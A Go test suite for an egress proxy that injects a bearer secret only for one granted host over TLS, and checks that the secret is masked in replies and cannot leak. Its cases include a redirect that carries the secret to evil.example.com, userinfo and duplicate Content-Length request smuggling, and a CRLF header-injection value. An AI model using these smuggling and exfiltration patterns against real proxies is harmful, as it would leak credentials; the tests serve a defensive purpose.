package inject

import (
	"bufio"
	"bytes"
	"context"
	"crypto/x509"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"boxmaker/brokerd/internal/driver"
	"boxmaker/brokerd/internal/egress"
	"boxmaker/internal/proto"
	"boxmaker/internal/secret"
	"boxmaker/internal/testkit/nameserver"

	"pgregory.net/rapid"
)

const canary = "canary-4711-secret"

// program builds the real egressd, once.
var program = sync.OnceValues(func() (string, error) {
	dir, err := os.MkdirTemp("", "inject")
	if err != nil {
		return "", err
	}
	bin := filepath.Join(dir, "egressd")
	cmd := exec.Command("go", "build", "-o", bin, "boxmaker/egressd")
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := cmd.CombinedOutput(); err != nil {
		return "", fmt.Errorf("%w: %s", err, out)
	}
	return bin, nil
})

func TestMain(m *testing.M) {
	code := m.Run()
	if bin, err := program(); err == nil {
		os.RemoveAll(filepath.Dir(bin))
	}
	os.Exit(code)
}

// A world is a run folder with egressd, a name server for which every name is
// this machine, and a web server.
type world struct {
	t     *testing.T
	ns    *nameserver.Server
	doors *Doors
	web   *httptest.Server // TLS, for example.com and the names below
	plain *httptest.Server

	mu   sync.Mutex // guards seen
	seen []string   // "host header-value" of each request
}

func newWorld(t *testing.T) *world {
	t.Helper()
	bin, err := program()
	if err != nil {
		t.Fatal(err)
	}
	dir, err := os.MkdirTemp("", "inject")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	for _, d := range []string{"egressd", "brokerd"} {
		if err := os.MkdirAll(filepath.Join(dir, d, "doors"), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	t.Chdir(dir)
	w := &world{t: t}
	w.ns = nameserver.Start(t, func(string, int) []netip.Addr { return []netip.Addr{netip.MustParseAddr("127.0.0.1")} })
	w.web, w.plain = httptest.NewTLSServer(w), httptest.NewServer(w)
	w.web.Config.ErrorLog = slog.NewLogLogger(slog.DiscardHandler, 0)
	t.Cleanup(w.web.Close)
	t.Cleanup(w.plain.Close)

	cmd := exec.Command(bin, "-listen", "egressd/e.sock", "-doors", "egressd/doors", "-resolver", w.ns.Addr)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	client := &egress.Client{Socket: "egressd/e.sock"}
	for i := 0; ; i++ {
		if _, err := client.Status(t.Context()); err == nil {
			break
		} else if i > 500 {
			t.Fatal(err)
		}
		time.Sleep(10 * time.Millisecond) // the program has no other way to say it here
	}
	roots := x509.NewCertPool()
	roots.AddCert(w.web.Certificate())
	w.doors, err = New(Config{Egress: client, Dir: "brokerd/doors", Roots: roots, Log: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	return w
}

// ServeHTTP notes what it was sent, and sends back what the path says.
func (w *world) ServeHTTP(rw http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	w.mu.Lock()
	w.seen = append(w.seen, fmt.Sprintf("%s %s %s %q", r.Method, r.Host, r.URL.Path, r.Header.Values("Authorization")))
	w.mu.Unlock()
	switch r.URL.Path {
	case "/echo":
		rw.Header().Set("X-Echo", "you sent "+r.Header.Get("Authorization"))
		fmt.Fprintf(rw, "auth: %s; encoding: %s; body: %s", r.Header.Get("Authorization"), r.Header.Get("Accept-Encoding"), body)
	case "/part":
		http.ServeContent(rw, r, "", time.Time{}, strings.NewReader(r.Header.Get("Authorization")))
	case "/redirect":
		http.Redirect(rw, r, "https://evil.example.com/?t="+r.Header.Get("Authorization"), http.StatusFound)
	case "/spoof":
		rw.Header().Set("X-Boxmaker-Egress", "not-allowed")
	}
}

func (w *world) took() []string {
	w.mu.Lock()
	defer w.mu.Unlock()
	s := w.seen
	w.seen = nil
	return s
}

func port(s *httptest.Server) string {
	_, p, _ := net.SplitHostPort(s.Listener.Addr().String())
	return p
}

func (w *world) host(name string) string { return name + ":" + port(w.web) }

// open opens a way out that injects for api.example.com.
func (w *world) open(hosts ...string) (string, func() proto.EgressReport) {
	w.t.Helper()
	door, closed, err := w.doors.Open(w.t.Context(), driver.WayOut{
		Call: "s/1/2/0", Hosts: hosts, Local: hosts, Until: time.Now().Add(time.Hour),
		Inject: []driver.Injection{{Host: w.host("api.example.com"), Header: "Authorization", Prefix: "Bearer ", Value: secret.NewText(canary)}},
	})
	if err != nil {
		w.t.Fatal(err)
	}
	told := func() proto.EgressReport {
		r, err := closed()
		if err != nil {
			w.t.Error(err)
		}
		return r
	}
	w.t.Cleanup(func() { told() })
	return door, told
}

func send(t *testing.T, door, raw string) string {
	t.Helper()
	c, err := net.Dial("unix", door)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(time.Minute))
	io.WriteString(c, raw)
	b, _ := io.ReadAll(c)
	return string(b)
}

// The secret goes to exactly the host and port of its entry, over TLS.
func TestWhereTheSecretGoes(t *testing.T) {
	w := newWorld(t)
	api, other := w.host("api.example.com"), w.host("other.example.com")
	plain := "api.example.com:" + port(w.plain)
	door, closed := w.open(api, other, plain, w.host("wrong.name"))
	for _, tc := range []struct{ name, send, seen, answer string }{
		{"its host", "GET https://" + api + "/a HTTP/1.1\r\n\r\n", "GET " + api + ` /a ["Bearer ` + canary + `"]`, "HTTP/1.1 200 "},
		{"its host in upper case, with a dot", "GET https://API.example.com.:" + port(w.web) + "/a HTTP/1.1\r\n\r\n", "GET " + api + ` /a ["Bearer ` + canary + `"]`, "HTTP/1.1 200 "},
		{
			"a header of the tool's own is replaced", "GET https://" + api + "/a HTTP/1.1\r\nauthorization: mine\r\nAUTHORIZATION: mine too\r\n\r\n",
			"GET " + api + ` /a ["Bearer ` + canary + `"]`, "HTTP/1.1 200 ",
		},
		{"with a body", "POST https://" + api + "/echo HTTP/1.1\r\nContent-Length: 4\r\n\r\nbody", "POST " + api + ` /echo ["Bearer ` + canary + `"]`, "body: body"},
		{"a Host of the tool's own", "GET https://" + api + "/a HTTP/1.1\r\nHost: " + other + "\r\n\r\n", "GET " + api + ` /a ["Bearer ` + canary + `"]`, "HTTP/1.1 200 "},
		{"another host", "GET https://" + other + "/a HTTP/1.1\r\n\r\n", "GET " + other + " /a []", "HTTP/1.1 200 "},
		{"another host that says it is the first", "GET https://" + other + "/a HTTP/1.1\r\nHost: " + api + "\r\n\r\n", "GET " + other + " /a []", "HTTP/1.1 200 "},
		{"another host keeps the tool's header", "GET https://" + other + "/a HTTP/1.1\r\nAuthorization: mine\r\n\r\n", "GET " + other + ` /a ["mine"]`, "HTTP/1.1 200 "},
		{"its host in plain, at another port", "GET http://" + plain + "/a HTTP/1.1\r\n\r\n", "GET " + plain + " /a []", "HTTP/1.1 200 "},
		{"its host and port in plain", "GET http://" + api + "/a HTTP/1.1\r\n\r\n", "", "goes over https only; ask for https://" + api},
		{"a host that is not granted", "GET https://evil.example.com/ HTTP/1.1\r\n\r\n", "", "X-Boxmaker-Egress: not-allowed"},
		{"its host at a port that is not granted", "GET https://api.example.com/ HTTP/1.1\r\n\r\n", "", "X-Boxmaker-Egress: not-allowed"},
		{"a certificate for another name", "GET https://" + w.host("wrong.name") + "/ HTTP/1.1\r\n\r\n", "", "X-Boxmaker-Egress: unreachable"},
		{"a user", "GET https://" + api + "@evil.example.com/ HTTP/1.1\r\n\r\n", "", "X-Boxmaker-Egress: bad-request"},
		{"two lengths", "POST https://" + api + "/ HTTP/1.1\r\nContent-Length: 4\r\nContent-Length: 0\r\n\r\nbody", "", "X-Boxmaker-Egress: bad-request"},
		{"a second request behind the first", "GET https://" + api + "/a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\nHost: x\r\n\r\n", "", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := send(t, door, tc.send)
			seen := w.took()
			if tc.answer == "" { // whether the first one arrives is open; the second never does
				if strings.Contains(strings.Join(seen, " "), "/b") {
					t.Errorf("seen %q", seen)
				}
				return
			}
			if strings.Join(seen, "|") != tc.seen || !strings.Contains(got, tc.answer) {
				t.Errorf("seen %q, answer %q", seen, got)
			}
			if strings.Contains(got, canary) {
				t.Errorf("the secret came back: %q", got)
			}
		})
	}
	for _, row := range closed().Connections {
		if strings.Contains(fmt.Sprint(row), canary) {
			t.Errorf("%+v", row)
		}
	}
}

// A value that the server sends back is made unreadable, in head and body.
func TestEcho(t *testing.T) {
	w := newWorld(t)
	api := w.host("api.example.com")
	door, _ := w.open(api)
	got := send(t, door, "GET https://"+api+"/echo HTTP/1.1\r\nAccept-Encoding: gzip\r\n\r\n")
	if strings.Contains(got, canary) || !strings.Contains(got, "X-Echo: you sent Bearer [secret]\r\n") || !strings.Contains(got, "auth: Bearer ******************; encoding: ; body: ") {
		t.Errorf("%q", got)
	}
	r, err := http.ReadResponse(bufio.NewReader(strings.NewReader(got)), nil)
	if err != nil {
		t.Fatal(err)
	}
	if b, err := io.ReadAll(r.Body); err != nil || int64(len(b)) != r.ContentLength {
		t.Errorf("%q %v", b, err)
	}
}

// No part of a value can be asked for: over several calls the parts would be all of it.
func TestParts(t *testing.T) {
	w := newWorld(t)
	api, other := w.host("api.example.com"), w.host("other.example.com")
	door, _ := w.open(api, other)
	for _, field := range []string{"Range", "RANGE", "Request-Range", "If-Range: x\r\nRange"} {
		got := send(t, door, "GET https://"+api+"/part HTTP/1.1\r\n"+field+": bytes=7-11\r\n\r\n")
		if strings.Contains(got, "206 ") || strings.Contains(got, canary[:5]) || !strings.Contains(got, "Bearer ****") {
			t.Errorf("%s: %q", field, got)
		}
	}
	got := send(t, door, "GET https://"+other+"/part HTTP/1.1\r\nAuthorization: mine\r\nRange: bytes=1-2\r\n\r\n")
	if !strings.Contains(got, "206 ") || !strings.HasSuffix(got, "in") { // what holds no secret can be had in parts
		t.Errorf("%q", got)
	}
}

// A redirect is not followed, and does not carry the value away.
func TestRedirect(t *testing.T) {
	w := newWorld(t)
	api := w.host("api.example.com")
	door, closed := w.open(api)
	got := send(t, door, "GET https://"+api+"/redirect HTTP/1.1\r\n\r\n")
	if !strings.HasPrefix(got, "HTTP/1.1 302 ") || strings.Contains(got, canary) {
		t.Errorf("%q", got)
	}
	if n := len(closed().Connections); n != 1 {
		t.Errorf("%d connections", n)
	}
}

// A server cannot speak with egressd's voice.
func TestSpoofedVerdict(t *testing.T) {
	w := newWorld(t)
	api := w.host("api.example.com")
	door, _ := w.open(api)
	if got := send(t, door, "GET https://"+api+"/spoof HTTP/1.1\r\n\r\n"); strings.Contains(got, "X-Boxmaker-Egress") {
		t.Errorf("%q", got)
	}
}

// A tunnel passes through: what is in it has no secret.
func TestTunnel(t *testing.T) {
	w := newWorld(t)
	api := w.host("api.example.com")
	door, _ := w.open(api)
	tr := &http.Transport{
		Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: "door"}), TLSClientConfig: w.web.Client().Transport.(*http.Transport).TLSClientConfig,
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			return new(net.Dialer).DialContext(ctx, "unix", door)
		},
	}
	defer tr.CloseIdleConnections()
	r, err := (&http.Client{Transport: tr}).Get("https://" + api + "/echo")
	if err != nil {
		t.Fatal(err)
	}
	defer r.Body.Close()
	b, _ := io.ReadAll(r.Body)
	if !strings.HasPrefix(string(b), "auth: ;") {
		t.Errorf("%q", b)
	}
}

func TestOpenFails(t *testing.T) {
	w := newWorld(t)
	way := func(i driver.Injection) driver.WayOut {
		return driver.WayOut{Call: "s/1/2/0", Hosts: []string{"a.example:443"}, Until: time.Now().Add(time.Hour), Inject: []driver.Injection{i}}
	}
	for name, i := range map[string]driver.Injection{
		"no port":      {Host: "a.example", Header: "X", Value: secret.NewText(canary)},
		"no header":    {Host: "a.example:443", Header: "", Value: secret.NewText(canary)},
		"line break":   {Host: "a.example:443", Header: "X", Value: secret.NewText("a\r\nHost: b")},
		"empty secret": {Host: "a.example:443", Header: "X"},
	} {
		if _, _, err := w.doors.Open(t.Context(), way(i)); err == nil || strings.Contains(err.Error(), canary) {
			t.Errorf("%s: %v", name, err)
		}
	}
	gone := &Doors{Config{Egress: &egress.Client{Socket: "nowhere.sock"}, Dir: "brokerd/doors"}}
	if _, _, err := gone.Open(t.Context(), driver.WayOut{Call: "s/1/2/0", Hosts: []string{"a.example:443"}}); err == nil {
		t.Error("opened without egressd")
	}
	for _, dir := range []string{"brokerd/doors", "egressd/doors"} {
		if left, _ := os.ReadDir(dir); len(left) != 0 {
			t.Errorf("left in %s: %v", dir, left)
		}
	}
}

// Closing leaves nothing: no socket, no connection, also of a request that waits.
func TestClose(t *testing.T) {
	w := newWorld(t)
	api := w.host("api.example.com")
	door, closed := w.open(api)
	c, err := net.Dial("unix", door)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	fmt.Fprintf(c, "POST https://%s/ HTTP/1.1\r\nContent-Length: 10\r\n\r\nhalf", api) // and no more
	closed()
	closed()
	io.ReadAll(c)
	if _, err := net.Dial("unix", door); err == nil {
		t.Error("the door is still there")
	}
}

func TestNewSweeps(t *testing.T) {
	dir := t.TempDir()
	l, err := net.ListenUnix("unix", &net.UnixAddr{Name: filepath.Join(dir, "a.sock"), Net: "unix"})
	if err != nil {
		t.Fatal(err)
	}
	l.SetUnlinkOnClose(false)
	l.Close()
	if _, err := New(Config{Dir: dir}); err != nil {
		t.Fatal(err)
	}
	if left, _ := os.ReadDir(dir); len(left) != 0 {
		t.Errorf("left: %v", left)
	}
	if _, err := New(Config{Dir: dir + "/none"}); err == nil || !strings.Contains(err.Error(), "see runbook: brokerd-doors") {
		t.Errorf("%v", err)
	}
}

// Wherever the pieces are cut, the value never comes through, and the length
// stays.
func TestMasker(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		value := rapid.StringMatching(`[ab*]{6,9}`).Draw(t, "value") // few letters: many near misses
		parts := rapid.SliceOf(rapid.OneOf(rapid.Just(value), rapid.StringMatching(`[ab*]{0,12}`), rapid.Just("x"))).Draw(t, "text")
		text := strings.Join(parts, "")
		var out bytes.Buffer
		m := masker{to: &out, values: []string{value}}
		for rest := text; rest != ""; {
			n := rapid.IntRange(1, len(rest)).Draw(t, "cut")
			m.Write([]byte(rest[:n]))
			rest = rest[n:]
		}
		m.flush()
		got := out.String()
		if len(got) != len(text) || strings.Contains(got, value) {
			t.Fatalf("%q of %q, secret %q", got, text, value)
		}
		if !strings.Contains(text, value) && got != text {
			t.Fatalf("%q changed to %q", text, got)
		}
	})
}

func FuzzReadHead(f *testing.F) {
	f.Add("HTTP/1.1 200 OK\r\nA: b\r\nX: "+canary+"\r\n\r\n", canary)
	f.Add("HTTP/1.0 302\nLocation: x\n\n", "abcdef")
	f.Add("HTTP/1.1 101 x\r\n\r\n", "a")
	f.Fuzz(func(t *testing.T, s, value string) {
		if value == "" {
			return
		}
		head, status, err := readHead(bufio.NewReaderSize(strings.NewReader(s), 64<<10), []string{value})
		if err != nil {
			return
		}
		if status < 100 || status > 999 || !bytes.HasSuffix(head, []byte("\r\n\r\n")) || bytes.Count(head, []byte("\r\n\r\n")) != 1 {
			t.Fatalf("%q gives %d %q", s, status, head)
		}
		r, err := http.ReadResponse(bufio.NewReader(bytes.NewReader(head)), nil)
		if err == nil && r.StatusCode != status {
			t.Fatalf("%q gives %q", s, head)
		}
	})
}
